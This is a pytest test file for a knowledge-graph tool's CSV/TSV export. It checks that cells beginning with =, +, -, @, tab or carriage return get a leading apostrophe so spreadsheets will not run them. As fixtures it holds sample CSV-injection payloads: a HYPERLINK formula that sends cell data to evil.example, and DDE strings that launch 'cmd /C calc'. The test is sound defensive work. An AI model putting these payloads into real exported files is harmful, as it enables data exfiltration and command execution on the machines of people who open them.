"""CSV a spreadsheet opens without running anything (OWASP, CSV injection): a cell that starts
with =, +, -, @, tab or carriage return is neutralised with a leading apostrophe in every CSV
and TSV govkg writes; a plain number such as -12.5 is a number, not a formula, and stays."""
from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from kg.api import KnowledgeGraph
from kg.cli import main
from kg.model import Statistic
from tests.conftest import JIAXING, PROG, S1, make_corpus

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
DDE = "-2+3+cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def hostile_graph():
    corpus = make_corpus()
    corpus.entities[PROG].label = FORMULA
    corpus.entities[PROG].aliases = {"@SUM(1+1)*cmd|' /C calc'!A0", "+红船"}
    corpus.statistics.append(Statistic(JIAXING, Decimal("-12.5"), "%", DDE, S1[1], 1,
                                       surface="-12.5%", article=corpus.articles[0].id))
    return KnowledgeGraph.from_corpus(corpus)


def _csv(path, delimiter=","):
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig")),
                               delimiter=delimiter))


@pytest.mark.parametrize("cell, safe", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), (DDE, "'" + DDE),
    ("-12.5", "-12.5"), ("+3", "+3"), ("-4E+3", "-4E+3"), ("21.2", "21.2"),
    ("红船枫警", "红船枫警"), ("", ""), ("a=b", "a=b"), ("-", "'-"), ("'=1", "'=1"),
])
def test_the_rule(cell, safe):
    from kg.export.spreadsheet import safe_cell
    assert safe_cell(cell) == safe


def test_export_tables_neutralise_formulas_and_keep_numbers(hostile_graph, tmp_path):
    hostile_graph.save(tmp_path, ["csv"])
    entities = _csv(tmp_path / "entities.csv")
    programme = next(r for r in entities if r["iri"] == PROG)
    assert programme["label"] == "'" + FORMULA
    assert programme["aliases"] == "'+红船|@SUM(1+1)*cmd|' /C calc'!A0"
    statistic = next(r for r in _csv(tmp_path / "statistics.csv") if r["value"] == "-12.5")
    assert statistic["measure"] == "'" + DDE and statistic["surface"] == "'-12.5%"
    relations = _csv(tmp_path / "relations.csv")
    assert {r["subject_label"] for r in relations if r["subject"] == PROG} == {"'" + FORMULA}
    every_cell = [v for name in ("entities", "relations", "statistics")
                  for row in _csv(tmp_path / f"{name}.csv") for v in row.values()]
    assert not [v for v in every_cell if v[:1] in ("=", "+", "@", "\t", "\r")]


@pytest.mark.parametrize("fmt, delimiter", [("csv", ","), ("tsv", "\t")])
def test_query_output_neutralises_formulas_and_keeps_numbers(hostile_graph, tmp_path, capsys,
                                                             fmt, delimiter):
    hostile_graph.save(tmp_path, ["turtle"])
    query = ("SELECT ?label ?value WHERE { ?p rdfs:label ?label . "
             "OPTIONAL { ?s gov:about ?p ; gov:value ?value } } ORDER BY ?label")
    assert main(["query", query, "-g", str(tmp_path), "-f", fmt]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out), delimiter=delimiter))
    labels = [r["label"] for r in rows]
    assert "'" + FORMULA in labels and FORMULA not in labels
    assert "-12.5" in [r["value"] for r in rows]
